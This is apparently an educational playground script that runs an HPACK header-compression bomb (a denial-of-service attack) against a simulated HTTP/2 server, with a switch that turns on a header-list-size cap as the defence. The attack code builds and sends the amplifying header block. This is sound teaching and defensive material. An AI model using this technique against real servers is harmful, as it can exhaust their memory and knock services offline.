import { FLAGS, connectRawHttp2, createServer, createSimulation, errorCodeName, http } from 'roundtrip/wire';
import { defineOptions } from 'roundtrip/playground';

// HPACK bomb: one header field of 4,000 bytes goes into the server's dynamic table once, then the block
// names it again and again, one byte per copy (RFC 7541 §6.1). A small block decodes to a huge header list:
// 4,096 to one at best, 16 KB of references to a 4 KB entry making 64 MB (CVE-2016-1544, CVE-2016-6581).
// Turn the defence off and see what reaches the handler.
const { defence, copies } = defineOptions({
  defence: { type: 'boolean', default: true, label: 'Defence on', doc: 'Header list capped at 16 KiB while it is decoded (Node: 65,535 bytes)' },
  copies: { type: 'number', default: 100, min: 1, max: 400, integer: true, label: 'References to the entry', doc: 'Times the block names the big table entry' },
});

let delivered = 0;
const server = createServer({
  routes: [
    http.get('/', (request) => {
      for (const [name, value] of request.headers) delivered += name.length + value.length;
      return new Response('ok');
    }),
  ],
  // 0xffffffff is the largest value SETTINGS_MAX_HEADER_LIST_SIZE can announce: no limit in practice.
  http2Limits: { maxHeaderListSize: defence ? 16_384 : 0xffff_ffff },
});
const sim = createSimulation({ server, httpVersion: '2' });
const attacker = connectRawHttp2(sim);
await sim.advance(300); // TCP handshake, then the prefaces and SETTINGS cross (100 ms round trips)

const bomb = { name: 'x-bomb', value: 'a'.repeat(4000) };
const block = attacker.fieldBlock([...attacker.requestFields('/'), ...Array.from({ length: copies }, () => bomb)]);
attacker.send({ type: 'HEADERS', streamId: 1, flags: FLAGS.END_HEADERS | FLAGS.END_STREAM, headerBlockFragment: block });
await sim.advance(1000);

const expanded = copies * (bomb.name.length + bomb.value.length + 32); // RFC 9113 §6.5.2's size of the list
console.log(`attacker: a ${block.length}-byte header block that decodes to ${expanded} bytes (x${Math.round(expanded / block.length)})`);
console.log(`handler: received ${delivered} bytes of header fields`);
const reset = attacker.received.find((f) => f.type === 'RST_STREAM');
if (reset?.type === 'RST_STREAM') console.log(`RST_STREAM ${errorCodeName(reset.errorCode)} on stream ${reset.streamId}; the connection stays usable`);
else console.log('no RST_STREAM: the server decoded and kept every copy');
